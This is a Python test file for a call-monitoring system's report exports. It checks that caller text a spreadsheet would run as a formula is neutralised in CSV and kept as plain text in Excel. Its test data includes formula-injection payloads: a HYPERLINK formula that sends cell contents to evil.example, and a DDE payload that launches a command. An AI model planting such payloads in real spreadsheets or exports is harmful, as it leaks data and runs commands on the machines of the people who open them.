"""Caller text that a spreadsheet would run as a formula: neutralised in CSV, text in Excel."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest

from monitor.core.charter import load_charter
from monitor.core.records import CallLeg, LegKind
from monitor.reports.export import ExportRequest, export_calls
from monitor.reports.formula_cells import neutralise_formulas
from monitor.reports.periods import day_range
from monitor.reports.report import build_report, write_report
from monitor.reports.report_store import ReportStore
from monitor.store import Store, open_store

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
           "-2+3", "\t=1+1", "\r=1+1")
HARMLESS = ("Siti Aminah", "+60312345678", "-5", "1.5", "", "a=b", "*******6789")


def test_formula_like_text_gets_an_apostrophe_and_plain_text_is_kept() -> None:
    column = pa.array([*HOSTILE, *HARMLESS, None], pa.string())
    out = neutralise_formulas(column).to_pylist()
    assert out[:len(HOSTILE)] == [f"'{v}" for v in HOSTILE]
    assert out[len(HOSTILE):] == [*HARMLESS, None]


@pytest.fixture
def hostile_store(tmp_path: Path) -> Iterator[Store]:
    start = datetime(2026, 7, 1, 1, 0, tzinfo=UTC)
    with open_store(f"sqlite:///{tmp_path / 'calls.db'}") as store:
        store.save_legs([
            CallLeg(pbx="pbx1", call_id=f"c{n}", leg_id=f"l{n}", kind=LegKind.FRONT_DESK,
                    offered_at=start + timedelta(minutes=n), queue="frontdesk",
                    department=name, caller_name=name, caller_number=name)
            for n, name in enumerate(HOSTILE)])
        yield store


def _export(store: Store, fmt: str, out: Path) -> None:
    charter = load_charter()
    period = day_range(date(2026, 7, 1), date(2026, 7, 1), charter.timezone)
    export_calls(ReportStore(store), charter, ExportRequest(
        period=period, fmt=fmt, out=out, masked=False, reason="test",  # type: ignore[arg-type]
        progress=False))


def test_csv_export_neutralises_every_formula(hostile_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "legs.csv"
    _export(hostile_store, "csv", out)
    back = pd.read_csv(out, dtype=str, keep_default_na=False)
    for column in ("caller_name", "caller_number", "department"):
        assert back[column].tolist() == [f"'{v}" for v in HOSTILE]


def test_excel_export_keeps_them_as_text_cells(hostile_store: Store, tmp_path: Path) -> None:
    out = tmp_path / "legs.xlsx"
    _export(hostile_store, "xlsx", out)
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cells = openpyxl.load_workbook(out)["legs"]
    column = [c.value for c in cells[1]].index("caller_name") + 1
    values = [cells.cell(r, column) for r in range(2, len(HOSTILE) + 2)]
    assert {c.data_type for c in values} == {"s"}
    # XML reads a carriage return back as a line feed; the text is otherwise unchanged
    assert [c.value for c in values] == [v.replace("\r", "\n") for v in HOSTILE]


def test_report_workbook_keeps_them_as_text(hostile_store: Store, tmp_path: Path) -> None:
    charter = load_charter()
    period = day_range(date(2026, 7, 1), date(2026, 7, 31), charter.timezone)
    report = build_report(ReportStore(hostile_store), charter, period)
    out = tmp_path / "report.xlsx"
    write_report(report, "xlsx", out)
    with zipfile.ZipFile(out) as book:
        sheets = [book.read(n).decode() for n in book.namelist()
                  if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in sheet for sheet in sheets)
    departments = {c.value for c in openpyxl.load_workbook(out)["Jadual 1"]["B"]}
    assert HOSTILE[0] in departments
